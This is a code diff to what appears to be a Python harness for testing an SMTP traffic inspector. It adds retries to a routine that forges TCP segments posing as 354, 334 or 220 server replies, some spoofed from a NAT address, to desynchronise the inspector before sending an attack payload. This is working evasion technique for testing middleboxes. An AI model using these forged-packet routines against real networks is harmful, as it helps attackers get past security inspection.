@@ -310,37 +310,44 @@ def syn_data_tfo_cookie(ctx):
 
 # --- 6. Forged packets from the wrong side ---------------------------------------------------------
 
-def _learn_then_forge(ctx, command, code, src=None):
+def _learn_then_forge(ctx, command, code, src=None, attempts=3):
     """Sends COMMAND once to learn the length of the server's real (refusing) reply, then again
     with a forged CODE reply of that same length sent at once from the outside (the real reply,
-    arriving later at the same sequence numbers, is then a 'retransmission' of it)."""
-    c = opened(ctx)
-    first = None
-    if c.send(command):
-        first = c.reply()
-    if first is None:
-        raise RuntimeError("no reply to %r" % command)
-    length = len(first) + 2
-    forged = (code + " " + "x" * (length - 6)).encode() + b"\r\n"
-    # Both packets made first and sent back to back: the forged reply reaches the inspector
-    # right behind the command, well before the server's own answer.
-    cmd = bytes(c.segment("PA", payload=command))
-    c.snd_nxt = sadd(c.snd_nxt, len(command))
-    fake = c.forged("PA", seq=c.rcv_nxt, ack=c.snd_nxt, payload=forged, src=src)
-    c.link.send(cmd)
-    c.link.send(fake)
-    if not c.wait(lambda: c.acked(c.snd_nxt), 1.0):
+    arriving later at the same sequence numbers, is then a 'retransmission' of it). The forged
+    reply races the real one: when the client got the real reply, the race was lost (or the
+    forged packet was dropped) and a new session tries again, up to `attempts` times."""
+    for attempt in range(1, attempts + 1):
+        c = opened(ctx)
+        first = c.reply() if c.send(command) else None
+        if first is None:
+            raise RuntimeError("no reply to %r" % command)
+        length = len(first) + 2
+        forged = (code + " " + "x" * (length - 6)).encode() + b"\r\n"
+        # Both packets made first and sent back to back: the forged reply reaches the inspector
+        # right behind the command, before the server's own answer.
+        cmd = bytes(c.segment("PA", payload=command))
+        c.snd_nxt = sadd(c.snd_nxt, len(command))
+        fake = c.forged("PA", seq=c.rcv_nxt, ack=c.snd_nxt, payload=forged, src=src)
         c.link.send(cmd)
-        c.wait(lambda: c.acked(c.snd_nxt), 1.0)
-    c.replies(0.5)
-    c.send(ATTACK)
-    return c, first.split("\n")[-1][:40]
+        c.link.send(fake)
+        if not c.wait(lambda: c.acked(c.snd_nxt), 1.0):
+            c.link.send(cmd)
+            c.wait(lambda: c.acked(c.snd_nxt), 1.0)
+        seen = c.reply(1.0) or ""
+        won = seen.startswith(code + " x")
+        if won or attempt == attempts:
+            c.replies(0.3)
+            c.send(ATTACK)
+            note = "real reply %s; forged %s %s on attempt %d" % (
+                first.split("\n")[-1][:24], code, "reached the client" if won else "never reached the client", attempt)
+            return c, note
+        c.close()
 
 
 def forge_354(ctx):
     """DATA without RCPT (the server refuses it) and a forged 354 from the server's address."""
     c, real = _learn_then_forge(ctx, b"DATA\r\n", "354")
-    return after(c), "real reply: " + real
+    return after(c), real
 
 
 def forge_354_global(ctx):
@@ -348,19 +355,19 @@ def forge_354_global(ctx):
     if not ctx.forge_global:
         raise Skip("no NAT global address in this mode")
     c, real = _learn_then_forge(ctx, b"DATA\r\n", "354", src=ctx.forge_global)
-    return after(c), "real reply: " + real
+    return after(c), real
 
 
 def forge_334(ctx):
     """AUTH PLAIN (refused: no AUTH offered) and a forged 334: the inspector would read SASL."""
     c, real = _learn_then_forge(ctx, b"AUTH PLAIN\r\n", "334")
-    return after(c), "real reply: " + real
+    return after(c), real
 
 
 def forge_220_starttls(ctx):
     """STARTTLS (refused: no TLS) and a forged 220: the inspector would see opaque TLS."""
     c, real = _learn_then_forge(ctx, b"STARTTLS\r\n", "220")
-    return after(c), "real reply: " + real
+    return after(c), real
 
 
 def _hidden_then_forged_ack(ctx, hide):
